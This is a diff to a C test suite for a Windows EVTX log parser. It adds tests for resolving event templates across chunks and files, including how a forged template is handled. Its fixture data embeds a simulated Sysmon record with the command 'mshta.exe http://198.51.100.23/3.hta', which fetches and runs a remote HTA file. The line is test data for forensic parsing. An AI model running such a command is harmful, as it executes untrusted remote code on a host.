@@ -89,7 +89,7 @@ static int
 read_file(const char *path, bool recovered, struct evtx_stats *st,
     struct seen *s)
 {
-	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, recovered };
+	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, recovered, NULL, 0 };
 	struct evtx_sink sink = { on_rec, on_warn, s };
 	struct ev_err err = EV_ERR_INIT;
 	struct evtx_file *f;
@@ -267,7 +267,7 @@ range_thread(void *arg)
 
 START_TEST(chunk_parallel)
 {
-	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, false };
+	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, false, NULL, 0 };
 	struct evtx_stats st, whole;
 	struct evtx_file *f;
 	struct range_job j[3];
@@ -1037,7 +1037,7 @@ START_TEST(corrupt_0010_nul_in_value)
 	struct evtxw_opts o = EVTXW_OPTS_INIT;
 	struct ev_err err = EV_ERR_INIT;
 	struct evtxw *w = evtxw_new(&o);
-	struct evtx_open_opts oo = { EVTX_PARSER_NATIVE, true };
+	struct evtx_open_opts oo = { EVTX_PARSER_NATIVE, true, NULL, 0 };
 	struct evtx_sink sink = { on_nul, NULL, NULL };
 	struct evtxw_spec *sp;
 	struct evtx_stats st;
@@ -1242,7 +1242,7 @@ tpl_read(const struct evtxw_event *evs, size_t n, struct tpl_seen *s,
 	struct evtxw_opts wo = EVTXW_OPTS_INIT;
 	struct evtxw *w = evtxw_new(&wo);
 	struct ev_err err = EV_ERR_INIT;
-	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true };
+	struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true, NULL, 0 };
 	struct evtx_sink sink = { tpl_on_rec, NULL, s };
 	struct evtxw_event slack;
 	struct evtx_file *f;
@@ -1346,6 +1346,247 @@ START_TEST(template_tokens_misfit)
 }
 END_TEST
 
+/* ---- templates found in other chunks and files (evtx_tpls) ---- */
+
+/* Sysmon 1 fields of tpl_proc's types under other names (Image and
+   CommandLine swapped): with the same template key, a forged template
+   whose substitutions fit tpl_proc's values. */
+static const struct evtxw_data tpl_forged[] = {
+	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:25.000", NULL, 0 },
+	{ "ProcessGuid", EVTXW_T_GUID, 0,
+	    "{A1B2C3D4-0054-DEA9-0000-00001279DB70}", NULL, 0 },
+	{ "ProcessId", EVTXW_T_UINT32, 0, "9510", NULL, 0 },
+	{ "CommandLine", EVTXW_T_STRING, 0, "x", NULL, 0 },
+	{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
+};
+/* The same key again, ProcessId a string: does not fit tpl_proc. */
+static const struct evtxw_data tpl_misfit[] = {
+	{ "RuleName", EVTXW_T_STRING, 0, "-", NULL, 0 },
+	{ "UtcTime", EVTXW_T_STRING, 0, "2024-03-05 09:00:26.000", NULL, 0 },
+	{ "ProcessGuid", EVTXW_T_GUID, 0,
+	    "{A1B2C3D4-0054-DEA9-0000-00001279DB71}", NULL, 0 },
+	{ "ImageName", EVTXW_T_STRING, 0, "9511", NULL, 0 },
+	{ "Image", EVTXW_T_STRING, 0, "y", NULL, 0 },
+	{ "CommandLine", EVTXW_T_STRING, 0, "z", NULL, 0 },
+};
+
+#define NAMED_PAIRS "RuleName=-;UtcTime=2024-03-05 09:00:30.000;" \
+	"ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};ProcessId=9512;" \
+	"Image=C:\\Windows\\System32\\mshta.exe;" \
+	"CommandLine=mshta.exe http://198.51.100.23/3.hta;"
+#define FORGED_PAIRS "RuleName=-;UtcTime=2024-03-05 09:00:30.000;" \
+	"ProcessGuid={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};ProcessId=9512;" \
+	"CommandLine=C:\\Windows\\System32\\mshta.exe;" \
+	"Image=mshta.exe http://198.51.100.23/3.hta;"
+
+/* One event of a late_read() file: a shape, chunk and slack flags. */
+struct late_ev {
+	char		 what;		/* 'p' tpl_proc2, 'f' tpl_forged,
+					   'm' tpl_misfit, 'n' tpl_net,
+					   's' the slack Sysmon 1 */
+	bool		 newchunk;
+};
+
+static int
+late_on_rec(uint32_t file, const struct ev_record *rec, uint32_t nuls,
+    void *ctx)
+{
+	(void)file;
+	(void)nuls;
+	return tpl_on_rec(rec, ctx);
+}
+
+/*
+ * Writes files (file i holds the events of spec[i], a string of
+ * late_ev), numbered in array order, all templates of Sysmon 1 shapes
+ * keyed "k" when key; reads them with one registry (none without
+ * registry) in the order order[] gives, each by one-chunk ranges last
+ * first when backwards; names the kept records.  s: the recovered one.
+ */
+static void
+late_read(const struct late_ev *const *spec, const size_t *nspec, size_t nf,
+    const size_t *order, bool backwards, bool registry, bool key,
+    struct tpl_seen *s)
+{
+	struct evtx_tpls *t = registry ? evtx_tpls_new() : NULL;
+	struct ev_err err = EV_ERR_INIT;
+	struct evtx_sink sink = { tpl_on_rec, NULL, s };
+	char paths[4][64];
+	uint64_t recid = 1;
+
+	ck_assert(nf <= 4);
+	ck_assert(!registry || t != NULL);
+	for (size_t i = 0; i < nf; i++) {
+		struct evtxw_opts wo = EVTXW_OPTS_INIT;
+		struct evtxw *w = evtxw_new(&wo);
+		const uint8_t *b;
+		size_t len;
+
+		ck_assert_ptr_nonnull(w);
+		for (size_t k = 0; k < nspec[i]; k++) {
+			const struct late_ev *e = &spec[i][k];
+			struct evtxw_event ev;
+			unsigned fl = e->newchunk ? EVTXW_EV_NEWCHUNK : 0;
+
+			switch (e->what) {
+			case 'p':
+				tpl_event(&ev, 1, recid, tpl_proc2,
+				    NELEM(tpl_proc2), fl);
+				break;
+			case 'f':
+				tpl_event(&ev, 1, recid, tpl_forged,
+				    NELEM(tpl_forged), fl);
+				break;
+			case 'm':
+				tpl_event(&ev, 1, recid, tpl_misfit,
+				    NELEM(tpl_misfit), fl);
+				break;
+			case 'n':
+				tpl_event(&ev, 3, recid, tpl_net,
+				    NELEM(tpl_net), fl);
+				break;
+			default:
+				tpl_event(&ev, 1, recid, tpl_proc,
+				    NELEM(tpl_proc), fl | EVTXW_EV_SLACK |
+				    EVTXW_EV_STALE_TPL);
+				break;
+			}
+			if (key && e->what != 'n')
+				ev.tpl_key = "k";
+			recid++;
+			ck_assert_int_eq(evtxw_add(w, &ev, &err), 0);
+		}
+		ck_assert_int_eq(evtxw_finish(w, &err), 0);
+		b = evtxw_bytes(w, &len);
+		snprintf(paths[i], sizeof(paths[i]), "%s", spill(b, len));
+		evtxw_free(w);
+	}
+	memset(s, 0, sizeof(*s));
+	for (size_t k = 0; k < nf; k++) {
+		size_t i = order != NULL ? order[k] : k;
+		struct evtx_open_opts o = { EVTX_PARSER_NATIVE, true, t,
+		    (uint32_t)i };
+		struct evtx_stats st;
+		struct evtx_file *f;
+		uint32_t units;
+
+		evtx_stats_init(&st);
+		ck_assert_int_eq(evtx_file_open(paths[i], &o, &f, &st, &err),
+		    0);
+		units = evtx_file_units(f);
+		if (backwards)
+			for (uint32_t u = units; u-- > 0;)
+				ck_assert_int_eq(evtx_file_read(f, u, 1, &sink,
+				    &st, &err), 0);
+		else
+			ck_assert_int_eq(evtx_file_read(f, 0, units, &sink,
+			    &st, &err), 0);
+		evtx_file_close(f);
+		evtx_stats_release(&st);
+	}
+	if (t != NULL)
+		ck_assert_int_eq(evtx_tpls_finish(t, late_on_rec, s, &err), 0);
+	evtx_tpls_free(t);
+	for (size_t i = 0; i < nf; i++)
+		unlink(paths[i]);
+}
+
+/*
+ * The slack record's EventData definition is only in another chunk of
+ * its file: named with the registry, positional without.
+ */
+START_TEST(template_cross_chunk)
+{
+	static const struct late_ev f0[] = {
+		{ 'p', false }, { 'n', true }, { 's', false },
+	};
+	const struct late_ev *spec[] = { f0 };
+	size_t n[] = { NELEM(f0) };
+	struct tpl_seen s;
+
+	late_read(spec, n, 1, NULL, false, false, false, &s);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(s.unresolved);
+	late_read(spec, n, 1, NULL, false, true, false, &s);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+}
+END_TEST
+
+/*
+ * Only in another file: named with the registry, the same for any
+ * order of reading the files and of reading their chunks.
+ */
+START_TEST(template_cross_file)
+{
+	static const struct late_ev f0[] = { { 'p', false } };
+	static const struct late_ev f1[] = { { 'n', false }, { 's', false } };
+	const struct late_ev *spec[] = { f0, f1 };
+	size_t n[] = { NELEM(f0), NELEM(f1) }, rev[] = { 1, 0 };
+	struct tpl_seen s;
+
+	late_read(spec, n, 2, NULL, false, false, false, &s);
+	ck_assert(s.unresolved);
+	late_read(spec, n, 2, NULL, false, true, false, &s);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+	late_read(spec, n, 2, rev, true, true, false, &s);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+}
+END_TEST
+
+/*
+ * Two definitions claim one GUID (a forged one with Image and
+ * CommandLine swapped): the nearest chunk of the same file wins, then
+ * the same file over other files, then other files in file order; a
+ * definition whose tokens do not fit is passed over.  The same for any
+ * reading order.
+ */
+START_TEST(template_tie_break)
+{
+	static const struct late_ev near_real[] = {
+		{ 'f', false }, { 'p', true }, { 'n', true }, { 's', false },
+	};
+	static const struct late_ev near_forged[] = {
+		{ 'p', false }, { 'f', true }, { 'n', true }, { 's', false },
+	};
+	static const struct late_ev real[] = { { 'p', false } };
+	static const struct late_ev forged[] = { { 'f', false } };
+	static const struct late_ev misfit[] = { { 'm', false } };
+	static const struct late_ev own_forged[] = {
+		{ 'f', false }, { 'n', true }, { 's', false },
+	};
+	static const struct late_ev slack[] = { { 'n', false }, { 's', false } };
+	const struct late_ev *a[] = { near_real }, *b[] = { near_forged };
+	const struct late_ev *c[] = { real, own_forged };
+	const struct late_ev *d[] = { forged, slack, real };
+	const struct late_ev *e[] = { misfit, slack, real };
+	size_t na[] = { NELEM(near_real) }, nb[] = { NELEM(near_forged) };
+	size_t nc[] = { 1, NELEM(own_forged) }, nd[] = { 1, 2, 1 };
+	size_t rev3[] = { 2, 1, 0 };
+	struct tpl_seen s;
+
+	late_read(a, na, 1, NULL, false, true, true, &s);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+	late_read(b, nb, 1, NULL, false, true, true, &s);
+	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
+	late_read(b, nb, 1, NULL, true, true, true, &s);
+	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
+	late_read(c, nc, 2, NULL, false, true, true, &s);
+	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
+	late_read(d, nd, 3, NULL, false, true, true, &s);
+	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
+	late_read(d, nd, 3, rev3, true, true, true, &s);
+	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
+	late_read(e, nd, 3, rev3, false, true, true, &s);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+}
+END_TEST
+
 static Suite *
 evtx_suite(void)
 {
@@ -1392,6 +1633,9 @@ evtx_suite(void)
 	tcase_add_test(tc, template_verify_reject);
 	tcase_add_test(tc, template_guid_in_chunk);
 	tcase_add_test(tc, template_tokens_misfit);
+	tcase_add_test(tc, template_cross_chunk);
+	tcase_add_test(tc, template_cross_file);
+	tcase_add_test(tc, template_tie_break);
 	suite_add_tcase(s, tc);
 	return s;
 }
